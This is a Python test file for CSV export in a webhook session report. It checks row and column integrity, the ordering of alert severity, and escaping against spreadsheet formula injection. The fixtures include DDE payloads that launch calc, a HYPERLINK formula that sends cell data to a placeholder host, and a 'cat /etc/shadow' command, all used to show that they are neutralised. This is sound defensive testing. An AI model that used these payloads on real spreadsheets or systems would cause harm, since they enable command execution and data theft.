"""The report columns the CLI and the UI share: CSV that no cell can break."""

from __future__ import annotations

import csv
import io

import pytest

from webhook.sessions.report import (
    SESSION_COLUMNS,
    cell,
    csv_text,
    priorities_text,
    spreadsheet_text,
)


@pytest.mark.parametrize(
    "command",
    [
        "sh -c 'a, b'",
        'echo "quoted, twice"',
        "line one\nline two",
        "tab\there",
        "\x1b[31mred",
        "=cmd|' /C calc'!A0",
        "",
    ],
    ids=["comma", "quotes", "newline", "tab", "escape", "formula", "empty"],
)
def test_every_cell_reads_back_as_one_field_of_one_row(command):
    rows = [{"session_id": "s-1", "command": [command], "alerts": {"Warning": 2}}]
    table = list(csv.reader(io.StringIO(csv_text(rows, SESSION_COLUMNS))))
    assert len(table) == 2, "a cell never forges a row"
    assert table[0] == [title for title, _ in SESSION_COLUMNS]
    assert len(table[1]) == len(SESSION_COLUMNS), "a cell never forges a column"
    got = dict(zip([key for _, key in SESSION_COLUMNS], table[1], strict=True))
    assert got["command"] == spreadsheet_text(cell(rows[0], "command"))
    assert "\n" not in got["command"] and "\x1b" not in got["command"]
    assert got["alerts"] == "Warning:2"


def test_priorities_read_most_severe_first():
    assert priorities_text({"Notice": 1, "Critical": 2, "Warning": 3, "Custom": 1}) == (
        "Critical:2 Warning:3 Notice:1 Custom:1"
    )
    assert priorities_text({}) == "-"


@pytest.mark.parametrize(
    ("command", "in_the_csv"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        (
            '=HYPERLINK("http://x.example/?"&A1,"open")',
            '\'=HYPERLINK("http://x.example/?"&A1,"open")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "\\t=1"),  # a tab starts a formula too: it is escaped as \t
        ("-", "-"),  # the mark for nothing is no formula
        ("cat /etc/shadow", "cat /etc/shadow"),
        ("a=b", "a=b"),
    ],
    ids=["dde", "hyperlink", "plus", "minus", "at", "tab", "dash", "plain", "inner-equals"],
)
def test_no_cell_reaches_a_spreadsheet_as_a_formula(command, in_the_csv):
    # commands typed in the pod reach the investigator's spreadsheet: none may run there
    rows = [{"session_id": "s-1", "command": [command], "user_name": command}]
    _, row = csv.reader(io.StringIO(csv_text(rows, SESSION_COLUMNS)))
    got = dict(zip([key for _, key in SESSION_COLUMNS], row, strict=True))
    assert got["command"] == got["user_name"] == in_the_csv
    assert got["alerts"] == "-"
